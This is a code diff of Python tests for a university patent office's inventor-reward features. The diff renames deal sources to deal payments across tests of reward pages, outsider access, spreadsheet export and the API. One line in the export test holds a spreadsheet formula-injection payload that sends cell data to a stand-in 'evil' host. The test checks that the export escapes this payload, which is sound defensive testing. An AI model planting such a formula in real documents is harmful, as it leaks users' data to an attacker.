@@ -30,12 +30,12 @@ def test_the_office_reads_and_manages_rewards_on_its_page(ctx, client, login, of
     assert services.policy_of(university.organisation_id).transfer_license_percent == Decimal("60.00")
     client.post("/office/rewards/shares", data={"patent_id": str(office.patents[2]),
                                                "inventor_id": [str(office.inventors["A"])], "share": ["100"]})
-    client.post("/office/rewards/costs", data={"source": "deal", "item_id": str(office.transfer),
+    client.post("/office/rewards/costs", data={"source": "deal_payment", "item_id": str(office.transfer_payment),
                                               "amount": "10000", "description": "评估费"})
     client.post("/office/rewards/paid", data={"source": "deal", "item_id": str(office.equity),
                                              "paid_on": office.today.isoformat()})
     found = {i.key: i for i in services.overview(university.load(), office.today.year).incomes}
-    assert found[f"deal:{office.transfer}"].reward == Decimal("54000.00")  # 60 % of 90,000
+    assert found[f"deal_payment:{office.transfer_payment}"].reward == Decimal("54000.00")  # 60 % of 90,000
     assert found[f"deal:{office.equity}"].paid_on == office.today
     statement = client.get(f"/office/rewards/inventors/{office.inventors['A']}?year={office.today.year}")
     assert statement.status_code == 200 and "¥150,000.00" in statement.get_data(as_text=True)
@@ -50,7 +50,7 @@ def test_outsiders_get_no_reward_page(ctx, client, login, office, university, co
     client.get("/logout")
     login(other_university)
     assert client.get(f"/office/rewards/inventors/{office.inventors['A']}").status_code == 404
-    assert client.post("/office/rewards/paid", data={"source": "deal", "item_id": str(office.transfer),
+    assert client.post("/office/rewards/paid", data={"source": "deal_payment", "item_id": str(office.transfer_payment),
                                                     "paid_on": office.today.isoformat()}).status_code == 302
     assert services.paid_in(university.organisation_id, office.today, office.today)[0] == 0
 
@@ -77,7 +77,7 @@ def test_finance_export_is_typed_and_formula_safe(ctx, client, login, office, un
     sheet = load_workbook(io.BytesIO(response.data)).active
     rows = list(sheet.iter_rows(min_row=2, values_only=True))
     titles = {row[1] for row in rows}
-    assert "'" + '=HYPERLINK("http://evil/?"&A1,"点击")' in titles
+    assert "'" + '=HYPERLINK("http://evil/?"&A1,"点击") 收款' in titles
     assert sum(Decimal(str(row[11])) for row in rows[:-1]) == Decimal(str(rows[-1][11])) == Decimal("241666.67")
     report = client.get(f"/office/report.xlsx?year={office.today.year}")
     assert report.status_code == 200 and len(load_workbook(io.BytesIO(report.data)).sheetnames) == 6
@@ -87,7 +87,7 @@ def test_api_rewards_policy_shares_and_report(client, token_for, office, univers
     headers = token_for(university)
     year = office.today.year
     found = client.get(f"/api/v1/office/rewards?year={year}", headers=headers).get_json()
-    transfer = next(i for i in found["incomes"] if i["source"] == "deal" and i["item_id"] == office.transfer)
+    transfer = next(i for i in found["incomes"] if i["source"] == "deal_payment" and i["item_id"] == office.transfer_payment)
     assert transfer["reward"] == "50000.00" and {p["amount"] for p in transfer["parts"]} == {
         "15000.00", "10000.00", "25000.00"}
     response = client.put("/api/v1/office/reward-policy", headers=headers,
@@ -109,7 +109,7 @@ def test_api_rewards_policy_shares_and_report(client, token_for, office, univers
     assert client.get(f"/api/v1/office/inventors/{office.inventors['C']}/statement?year={year}",
                       headers=token_for(other_university)).status_code == 404
     paid = client.post("/api/v1/office/reward-payments", headers=headers,
-                       json={"source": "deal", "item_id": office.transfer, "paid_on": office.today.isoformat()})
+                       json={"source": "deal_payment", "item_id": office.transfer_payment, "paid_on": office.today.isoformat()})
     assert paid.status_code == 201 and len(paid.get_json()) == 3
     spec = client.get("/api/v1/openapi.json").get_json()
     assert {"/api/v1/office/rewards", "/api/v1/office/authority-report",
